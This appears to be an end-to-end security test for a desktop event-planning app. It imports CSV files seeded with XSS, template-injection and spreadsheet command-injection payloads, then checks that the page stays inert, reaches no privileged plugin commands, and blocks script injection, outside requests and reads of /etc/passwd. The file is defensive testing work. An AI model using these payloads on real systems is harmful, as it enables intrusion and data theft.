/** Text that wants to be more than text, in everything that can be written; and what the page itself may ask for. */
import assert from "node:assert/strict";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { choose, connect, openFromPalette, upToDate } from "./harness/office.mjs";
import { startServer } from "./harness/server.mjs";
import { story } from "./harness/story.mjs";

const HARM = `<img src=x onerror=owned()><script>owned()</script>"'{{7*7}}`;
const evil = (word) => `${word} ${HARM}`;
const GALA = evil("Gala");
const LUNCH = evil("Lunch");
const CLIENT = evil("Linden");
const CHEF = evil("Chef");

story("hostile text stays text, and the page reaches nothing but its own commands", async (scene) => {
  const office = await startServer(scene, { events: 0 });
  const elsewhere = await listenElsewhere(scene);
  const pilar = await scene.person({ name: "pilar" });
  const desk = await pilar.openDesk({ CLOCHE_PICK_FILES: writeHostileBooks(join(pilar.home, "books")) });
  const { screen } = desk;
  await connect(screen, { link: office.link, ...office.people[0] });
  await upToDate(screen);
  await screen.browser.execute(() => {
    window.owned = () => {
      window.wasOwned = true;
    };
  });

  await bringTheBooks(screen);
  await lookAround(screen);
  await write(screen);
  await desk.picture("hostile");
  await reachesNoPlugin(screen);
  await runsNothingElse(screen, elsewhere.address);
  await goesNowhere(screen, elsewhere.address);
  assert.deepEqual(elsewhere.asked, [], "nobody elsewhere was asked for anything");
  await inert(screen);
  await desk.close();
});

/** A server elsewhere, as far as the page is concerned; keeps what it is asked for. */
async function listenElsewhere({ after }) {
  const asked = [];
  const server = createServer((request, reply) => {
    asked.push(request.url);
    reply.end("window.owned()");
  });
  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
  after(() => new Promise((closed) => server.close(closed)));
  return { asked, address: `http://127.0.0.1:${server.address().port}` };
}

function writeHostileBooks(folder) {
  mkdirSync(folder, { recursive: true });
  const cell = (value) => `"${String(value).replaceAll('"', '""')}"`;
  const write = (name, ...rows) =>
    writeFileSync(join(folder, name), `${rows.map((row) => row.map(cell).join(",")).join("\r\n")}\r\n`);
  const day = new Date(Date.now() + 3 * 86_400_000).toISOString().slice(0, 10);
  const [from, until] = [`${day} 16:00`, `${day} 22:00`];
  write(
    "clients.csv",
    ["Company", "Contact", "Email", "Phone", "Address", "Notes"],
    [CLIENT, evil("Ana"), "ana@example.org", "=cmd|' /C calc'!A0", evil("Street"), evil("Client's notes")],
    ["Plain", "", "", "", "", ""],
  );
  const event = (number, name) => [
    number,
    name,
    CLIENT,
    evil("type"),
    from,
    until,
    "Europe/Madrid",
    evil("Hall"),
    20,
    "planning",
  ];
  write(
    "events.csv",
    ["No", "Event", "Client", "Type", "Start", "End", "Time zone", "Venue", "Guests", "Status", "Notes"],
    [...event(1, GALA), evil("Gala's notes")],
    [...event(2, LUNCH), evil("Lunch's notes")],
  );
  write(
    "resources.csv",
    ["Name", "Role", "Type", "Quantity"],
    [CHEF, evil("cook"), "staff", 1],
    [evil("Tables"), "", "equipment", 20],
  );
  write(
    "tasks.csv",
    ["No", "Event no", "Task", "Category", "Due", "Status", "Assigned to", "After task"],
    [1, 1, evil("Polish"), "pre_event", from, "pending", CHEF, ""],
    [2, 1, evil("Serve"), "during_event", from, "pending", "", 1],
  );
  write(
    "assignments.csv",
    ["Resource", "Event no", "Quantity", "From", "To"],
    [CHEF, 2, 1, from, until],
    [evil("Tables"), 2, 5, from, until],
  );
  return folder;
}

/** Nothing of the text has become an element, and nothing of it has run (a dialog of the page's would fail what asks). */
async function inert(screen, ...words) {
  for (const word of words) {
    await screen.reads(word);
  }
  const found = await screen.browser.execute(() => ({
    owned: window.wasOwned === true,
    made: [...document.querySelectorAll("img, script, iframe, object, embed, [onerror]")]
      .map((one) => one.outerHTML)
      .filter((html) => html.includes("owned") || html.includes('src="x"')),
    computed: document.body.textContent.includes("49}}") || document.title.includes("owned"),
  }));
  assert.deepEqual(found, { owned: false, made: [], computed: false });
}

async function bringTheBooks(screen) {
  await screen.click("link", "Import & export");
  await screen.click("button", "Choose a folder…");
  await screen.see("table", "Files of the folder");
  await screen.click("button", "Try it out");
  await screen.see("status", "Dry run", { patience: 60_000 });
  await inert(screen);
  await screen.click("button", "Import all", { part: true });
  await screen.reads("2 clients, 2 events, 2 resources, 2 tasks and 2 bookings", 60_000);
}

async function lookAround(screen) {
  await screen.click("link", "Today");
  await inert(screen, CHEF);
  await screen.click("link", "Tasks", { part: true });
  await inert(screen, evil("Polish"));
  await screen.click("link", "Clients");
  await screen.click("link", CLIENT);
  await inert(screen, CLIENT, evil("Street"), evil("Client's notes"));
  await screen.click("link", "Resources");
  await inert(screen, CHEF, evil("Tables"));
  await screen.click("link", "Events");
  await inert(screen, LUNCH);
  await openFromPalette(screen, GALA);
  await inert(screen, evil("Hall"), evil("Gala's notes"));
}

/** What comes in by hand: a task, a reason for a clash, a name on an invitation, a reason for cancelling. */
async function write(screen) {
  await screen.click("tab", "Tasks", { part: true });
  await screen.click("button", "New task");
  await screen.see("dialog", "New task");
  await screen.fill("Title", evil("Typed"));
  await screen.click("button", "Create task");
  await screen.gone("dialog", "New task");
  await inert(screen, evil("Typed"));

  await screen.click("tab", "Staff & equipment", { part: true });
  await screen.click("button", "Assign");
  const dialog = await screen.see("dialog", "Assign staff or equipment");
  await choose(screen, "Who or what", "Chef");
  await screen.click("checkbox", "Assign all the same, with a reason");
  await inert(screen, LUNCH);
  await screen.fill("Reason for the overlap", evil("Because"));
  await screen.click("button", "Assign", { within: dialog });
  await screen.gone("dialog", null);
  await inert(screen, `Overlap accepted: ${evil("Because")}`);

  await screen.click("button", "More actions");
  await screen.click("menuitem", "Cancel event…");
  await screen.fill("Reason", evil("Rain"));
  await screen.click("button", "Cancel event");
  await screen.click("tab", "Overview");
  await inert(screen, evil("Rain"));

  await screen.click("link", "Team & permissions");
  await screen.click("button", "Invite a colleague");
  await screen.fill("E-mail", "lucia@olivar.example");
  await screen.fill("Name", evil("Lucía"));
  await screen.click("button", "Invite");
  await screen.see("textbox", "Link");
  await inert(screen);
  await screen.click("button", "Copy link");
  await screen.click("button", "Done");
  await inert(screen, evil("Lucía"));
}

/** Every command of every plugin that is built in, from the list that the build wrote; the page may hear events. */
async function reachesNoPlugin(screen) {
  const list = join(import.meta.dirname, "..", "gen", "schemas", "acl-manifests.json");
  const commands = Object.entries(JSON.parse(readFileSync(list, "utf8"))).flatMap(
    ([plugin, { permissions }]) =>
      Object.values(permissions)
        .flatMap((one) => one.commands.allow)
        .map((command) => `plugin:${plugin.replace("core:", "")}|${command}`),
  );
  const asked = [
    ...new Set(commands),
    "plugin:shell|open",
    "plugin:fs|read_text_file",
    "plugin:opener|open_url",
  ];
  assert.ok(asked.length > 100, "the list was read");
  const allowed = await screen.browser.executeAsync((names, done) => {
    const ask = (name) =>
      window.__TAURI_INTERNALS__.invoke(name, {}).then(
        () => name,
        // An allowed command complains of its arguments instead.
        (said) => (/not allowed|not found/i.test(String(said)) ? null : name),
      );
    Promise.all(names.map(ask)).then((answers) => done(answers.filter(Boolean)));
  }, asked);
  assert.deepEqual(allowed.sort(), ["plugin:event|listen", "plugin:event|unlisten"]);
  const own = await screen.browser.executeAsync((done) => {
    window.__TAURI_INTERNALS__.invoke("no_such_command", {}).then(
      () => done("answered"),
      (said) => done(String(said)),
    );
  });
  assert.match(own, /not found/);
  assert.equal(await screen.browser.execute(() => typeof window.__TAURI__), "undefined");
}

/** What the page's policy forbids, tried from within. */
async function runsNothingElse(screen, address) {
  const ran = await screen.browser.executeAsync((elsewhere, done) => {
    const ran = [];
    const attempt = (what, how) => {
      try {
        how();
      } catch {
        return;
      }
      ran.push(what);
    };
    // biome-ignore lint/security/noGlobalEval: that it is refused is what is tried
    attempt("eval", () => window.eval("1"));
    attempt("Function", () => new Function("return 1")());
    const add = (name, attributes, text = "") => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) {
        element.setAttribute(key, value);
      }
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    const added = [
      add("script", {}, "window.owned()"),
      add("script", { src: `${elsewhere}/script.js` }),
      add("script", { src: "data:text/javascript,window.owned()" }),
      add("script", { type: "module" }, "window.owned()"),
      add("iframe", { src: `${elsewhere}/frame` }),
      add("iframe", { srcdoc: "<script>parent.owned()</script>" }),
      add("object", { data: `${elsewhere}/object` }),
      add("embed", { src: `${elsewhere}/embed` }),
      add("img", { src: `${elsewhere}/picture`, onerror: "window.owned()" }),
      add("video", { src: `${elsewhere}/video` }),
      add("link", { rel: "stylesheet", href: `${elsewhere}/style.css` }),
      add("link", { rel: "prefetch", href: `${elsewhere}/prefetch` }),
      add(
        "style",
        {},
        `@import "${elsewhere}/import.css"; body { background: url("${elsewhere}/background") }`,
      ),
      add("a", { href: "javascript:window.owned()" }),
      add("div", { onclick: "window.owned()" }),
    ];
    const form = add("form", { action: `${elsewhere}/form`, method: "post" });
    for (const one of added.slice(-2)) {
      one.click();
    }
    attempt("form", () => {
      form.submit();
      throw new Error("a form that is not sent says nothing");
    });
    setTimeout("window.owned()", 0);
    attempt("worker", () => {
      new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => ran.push("worker ran");
      throw new Error("a worker that may not start says so later");
    });
    attempt("socket", () => {
      new WebSocket(elsewhere.replace("http", "ws")).onopen = () => ran.push("socket opened");
      throw new Error("a socket says so later");
    });
    navigator.sendBeacon?.(`${elsewhere}/beacon`, "x");
    const fetched = [`${elsewhere}/fetch`, "file:///etc/passwd"].map((url) =>
      fetch(url, { mode: "no-cors" }).then(
        () => ran.push(url),
        () => undefined,
      ),
    );
    const window_ = window.open(`${elsewhere}/window`);
    if (window_) {
      ran.push("window");
    }
    Promise.all(fetched).then(() =>
      // Whatever was going to run has run by the time that two more frames are painted.
      requestAnimationFrame(() =>
        requestAnimationFrame(() => {
          for (const one of [...added, form]) {
            one.remove();
          }
          done(ran);
        }),
      ),
    );
  }, address);
  assert.deepEqual(ran, [], "the page's policy lets nothing of this run");
}

/** Leaving for a page elsewhere is refused: it could pass for Cloche. */
async function goesNowhere(screen, address) {
  const before = await screen.browser.getUrl();
  for (const target of [`${address}/elsewhere`, "file:///etc/passwd", "data:text/html,<h1>Cloche</h1>"]) {
    await screen.browser.execute((url) => {
      const link = document.createElement("a");
      link.href = url;
      document.body.append(link);
      link.click();
      link.remove();
      try {
        window.location.assign(url);
      } catch {
        // A page may not even ask for some.
      }
    }, target);
    await screen.see("link", "Team & permissions");
    assert.equal(await screen.browser.getUrl(), before, `${target} was refused`);
  }
}
